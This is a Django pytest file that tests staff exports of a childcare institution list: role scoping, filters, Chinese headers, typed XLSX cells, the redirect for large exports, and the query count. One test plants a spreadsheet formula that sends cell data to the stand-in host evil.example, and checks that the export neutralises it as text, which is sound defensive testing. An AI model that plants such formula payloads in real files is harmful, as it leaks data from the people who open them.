"""Exports of the staff institution list: scoped, filtered, Chinese headers, numbers and dates typed."""
import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from institutions.models import Institution
from tests.factories import InstitutionFactory

pytestmark = pytest.mark.django_db


def _csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_csv_has_chinese_headers_and_only_the_users_scope(client, users, institutions):
    client.force_login(users["reviewer_a"])
    response = client.get(reverse("institutions:staff_export", args=["csv"]))
    rows = _csv_rows(response)
    assert rows[0][:2] == ["统一社会信用代码", "机构名称"]
    assert [row[1] for row in rows[1:]] == ["长安区阳光托育园"]
    assert rows[1][rows[0].index("托位数")] == "40" and rows[1][rows[0].index("县（区）")] == "长安区"


def test_city_admin_export_follows_the_filters(client, users, institutions):
    client.force_login(users["city_admin"])
    rows = _csv_rows(client.get(reverse("institutions:staff_export", args=["csv"])))
    assert sorted(row[1] for row in rows[1:]) == ["桥西区童心托育中心", "长安区阳光托育园"]
    rows = _csv_rows(client.get(reverse("institutions:staff_export", args=["csv"]), {"q": "童心"}))
    assert [row[1] for row in rows[1:]] == ["桥西区童心托育中心"]


def test_xlsx_is_a_valid_workbook_with_typed_cells(client, users, institutions):
    client.force_login(users["city_admin"])
    response = client.get(reverse("institutions:staff_export", args=["xlsx"]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    assert header[:2] == ["统一社会信用代码", "机构名称"]
    rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["长安区阳光托育园"][header.index("托位数")] == 40
    filed = rows["长安区阳光托育园"][header.index("备案日期")]
    assert isinstance(filed, datetime.datetime) and filed.date() == datetime.date(2024, 3, 1)


def test_operator_exports_only_their_institutions_and_unknown_format_is_404(client, users, institutions):
    client.force_login(users["operator_b"])
    rows = _csv_rows(client.get(reverse("institutions:staff_export", args=["csv"])))
    assert [row[1] for row in rows[1:]] == ["桥西区童心托育中心"]
    assert client.get(reverse("institutions:staff_export", args=["pdf"])).status_code == 404


def test_anonymous_is_sent_to_log_in(client, institutions):
    assert client.get(reverse("institutions:staff_export", args=["csv"])).status_code == 302


def test_too_many_rows_lead_to_the_export_job_confirmation(client, users, regions, settings):
    """Above EXPORT_MAX_SYNC_ROWS the export is a background job (tests/exports): the link asks to confirm."""
    settings.EXPORT_MAX_SYNC_ROWS = 2
    for _ in range(3):
        InstitutionFactory(region=regions["county_a"], capacity=(10, 5))
    client.force_login(users["reviewer_a"])
    response = client.get(reverse("institutions:staff_export", args=["csv"]), {"sort": "name", "page": "3"})
    assert response.status_code == 302
    assert response["Location"] == reverse("exports:new", args=["institutions", "csv"]) + "?sort=name"
    assert Institution.objects.count() == 3


@pytest.mark.parametrize("count", [5, 60])
def test_export_query_count_is_constant(client, users, regions, django_assert_max_num_queries, count):
    for _ in range(count):
        InstitutionFactory(region=regions["county_a"], capacity=(10, 5))
    client.force_login(users["reviewer_a"])
    with django_assert_max_num_queries(8):
        response = client.get(reverse("institutions:staff_export", args=["csv"]))
        assert len(_csv_rows(response)) == count + 1


def test_text_that_looks_like_a_formula_is_exported_as_text(client, users, institutions):
    """CSV/formula injection: a name an operator typed never becomes a live formula in an official's file."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")'
    Institution.objects.filter(pk=institutions["a"].pk).update(name=evil, address="+86 @home")
    client.force_login(users["reviewer_a"])
    response = client.get(reverse("institutions:staff_export", args=["xlsx"]))
    raw = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    header = [cell.value for cell in sheet[1]]
    row = [cell for cell in sheet[2]]
    name_cell = row[header.index("机构名称")]
    assert name_cell.value == "'" + evil and name_cell.data_type == "s"
    assert row[header.index("地址")].value == "'+86 @home"
    rows = _csv_rows(client.get(reverse("institutions:staff_export", args=["csv"])))
    assert rows[1][1] == "'" + evil
